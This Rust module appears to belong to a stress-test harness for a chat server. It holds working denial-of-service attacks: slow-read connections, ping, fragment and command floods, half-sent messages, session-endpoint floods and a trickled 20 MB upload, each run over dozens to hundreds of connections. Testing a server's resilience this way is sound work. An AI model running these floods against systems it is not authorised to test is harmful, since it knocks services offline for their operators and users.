//! What the attackers do.

use std::future::Future;
use std::io;
use std::sync::Arc;
use std::time::Duration;

use futures::FutureExt;
use futures::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::socket::{connect, drain, hold, tell, websocket};
use super::{Attack, FILLED, Target};
use crate::raw::frame;

/// All attacks.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "answers",
        what: "62 connections of one name ask for large answers and read none",
        run: |target| crowd(62, target, |target| unread(target, 0)).boxed(),
    },
    Attack {
        name: "one-byte",
        what: "62 connections of one name ask for large answers and read a byte a second",
        run: |target| crowd(62, target, |target| unread(target, 1)).boxed(),
    },
    Attack {
        name: "anonymous",
        what: "300 connections without a session ask for the client's files and read none",
        run: |target| crowd(300, target, |target| files(target, false)).boxed(),
    },
    Attack {
        name: "half-closed",
        what: "300 connections ask for the client's files, close their side and read none",
        run: |target| crowd(300, target, |target| files(target, true)).boxed(),
    },
    Attack {
        name: "commands",
        what: "32 connections of one name send commands as fast as they can",
        run: |target| crowd(32, target, commands).boxed(),
    },
    Attack {
        name: "pings",
        what: "32 connections of one name send pings and read nothing",
        run: |target| crowd(32, target, |target| flood(target, frame(0x89, b"ping"))).boxed(),
    },
    Attack {
        name: "fragments",
        what: "32 connections of one name send empty fragments of one message",
        run: |target| crowd(32, target, fragments).boxed(),
    },
    Attack {
        name: "messages",
        what: "62 connections of one name begin a message of 64 KB and do not end it",
        run: |target| crowd(62, target, unfinished).boxed(),
    },
    Attack {
        name: "sign-outs",
        what: "64 connections without a session sign out again and again",
        run: |target| crowd(64, target, sign_outs).boxed(),
    },
    Attack {
        name: "sign-ins",
        what: "64 connections take names again and again",
        run: |target| crowd(64, target, sign_ins).boxed(),
    },
    Attack {
        name: "searches",
        what: "32 connections of one name search for what is nowhere",
        run: |target| crowd(32, target, searches).boxed(),
    },
    Attack {
        name: "uploads",
        what: "100 connections of one name upload a byte a second",
        run: |target| crowd(100, target, uploads).boxed(),
    },
];

/// Runs `count` attackers concurrently. Each starts again when its connection ends.
async fn crowd<F>(count: usize, target: Arc<Target>, attacker: fn(Arc<Target>) -> F)
where
    F: Future<Output = io::Result<()>>,
{
    let attackers = (0..count).map(|_| async {
        loop {
            let _ = attacker(Arc::clone(&target)).await;
            sleep(Duration::from_millis(50)).await;
        }
    });
    join_all(attackers).await;
}

async fn unread(target: Arc<Target>, bytes_per_second: usize) -> io::Result<()> {
    let mut tcp = websocket(&target).await?;
    let mut commands = Vec::new();
    for id in 0..5 {
        commands.push(format!(r#"{{"type":"subscribe","id":{id},"channel":"{FILLED}"}}"#));
        commands.push(format!(r#"{{"type":"history","id":{id},"channel":"{FILLED}","before":1000000}}"#));
        commands.push(format!(r#"{{"type":"channels","id":{id}}}"#));
    }
    tell(&mut tcp, &commands).await?;
    if bytes_per_second == 0 {
        return hold(&mut tcp).await;
    }
    loop {
        let mut byte = vec![0; bytes_per_second];
        tcp.read_exact(&mut byte).await?;
        sleep(Duration::from_secs(1)).await;
    }
}

async fn files(target: Arc<Target>, half_closed: bool) -> io::Result<()> {
    let mut tcp = connect(&target).await?;
    let requests = format!("GET /chat/ui/chat.js HTTP/1.1\r\nHost: {}\r\n\r\n", target.addr).repeat(100);
    tcp.write_all(requests.as_bytes()).await?;
    if half_closed {
        sleep(Duration::from_millis(200)).await;
        return tcp.shutdown().await;
    }
    loop {
        sleep(Duration::from_secs(1)).await;
        tcp.write_all(b"\r\n").await?;
    }
}

/// Writes the same bytes as fast as the server accepts them, and discards the responses.
async fn reading_flood(tcp: TcpStream, bytes: Vec<u8>) -> io::Result<()> {
    let (mut read, mut write) = tcp.into_split();
    let writing = async {
        loop {
            write.write_all(&bytes).await?;
        }
    };
    let reading = async {
        let mut dropped = vec![0; 64 << 10];
        while read.read(&mut dropped).await? > 0 {}
        Err(io::ErrorKind::UnexpectedEof.into())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}

async fn commands(target: Arc<Target>) -> io::Result<()> {
    let tcp = websocket(&target).await?;
    let mut bytes = Vec::new();
    for id in 0..20 {
        for command in [
            format!(r#"{{"type":"ping","id":{id}}}"#),
            format!(r#"{{"type":"channels","id":{id}}}"#),
            format!(r#"{{"type":"history","id":{id},"channel":"{FILLED}","before":100}}"#),
            format!(r#"{{"type":"read","id":{id},"channel":"{FILLED}","seq":1}}"#),
            format!(r#"{{"type":"publish","id":{id},"channel":"{FILLED}","nonce":"n{id}","text":"again"}}"#),
        ] {
            bytes.extend(frame(0x81, command.as_bytes()));
        }
    }
    reading_flood(tcp, bytes).await
}

async fn flood(target: Arc<Target>, frame: Vec<u8>) -> io::Result<()> {
    let mut tcp = websocket(&target).await?;
    let bytes = frame.repeat(500);
    loop {
        tcp.write_all(&bytes).await?;
    }
}

async fn fragments(target: Arc<Target>) -> io::Result<()> {
    let mut tcp = websocket(&target).await?;
    tcp.write_all(&frame(0x01, b"")).await?;
    reading_flood(tcp, frame(0x00, b"").repeat(500)).await
}

async fn unfinished(target: Arc<Target>) -> io::Result<()> {
    let mut tcp = websocket(&target).await?;
    let mut message = frame(0x81, &[b'x'; 65_000]);
    let rest = message.split_off(64_000);
    tcp.write_all(&message).await?;
    for byte in rest {
        sleep(Duration::from_secs(1)).await;
        tcp.write_all(&[byte]).await?;
    }
    drain(&mut tcp).await
}

async fn sign_outs(target: Arc<Target>) -> io::Result<()> {
    let tcp = connect(&target).await?;
    let cookie = "chat_session=00000000000000000000000000000000";
    let request = format!("DELETE /session HTTP/1.1\r\nHost: {}\r\nCookie: {cookie}\r\n\r\n", target.addr);
    reading_flood(tcp, request.into_bytes()).await
}

async fn sign_ins(target: Arc<Target>) -> io::Result<()> {
    let tcp = connect(&target).await?;
    let mut requests = Vec::new();
    for n in 0..20 {
        let body = format!(r#"{{"name":"n{}{n}"}}"#, tcp.local_addr()?.port());
        let length = body.len();
        requests.extend_from_slice(
            format!(
                "POST /session HTTP/1.1\r\nHost: {}\r\nContent-Length: {length}\r\n\r\n{body}",
                target.addr
            )
            .as_bytes(),
        );
    }
    reading_flood(tcp, requests).await
}

async fn searches(target: Arc<Target>) -> io::Result<()> {
    let tcp = websocket(&target).await?;
    let search =
        format!(r#"{{"type":"search","id":1,"channel":"{FILLED}","query":"nowhere to be found at all"}}"#);
    reading_flood(tcp, frame(0x81, search.as_bytes())).await
}

async fn uploads(target: Arc<Target>) -> io::Result<()> {
    let mut tcp = connect(&target).await?;
    let Target { addr, cookie } = &*target;
    let head = format!(
        "POST /chat/channels/{FILLED}/attachments?name=a HTTP/1.1\r\nHost: {addr}\r\nCookie: {cookie}\r\n\
         Content-Length: 20000000\r\n\r\n"
    );
    tcp.write_all(head.as_bytes()).await?;
    loop {
        tcp.write_all(b"x").await?;
        sleep(Duration::from_secs(1)).await;
    }
}
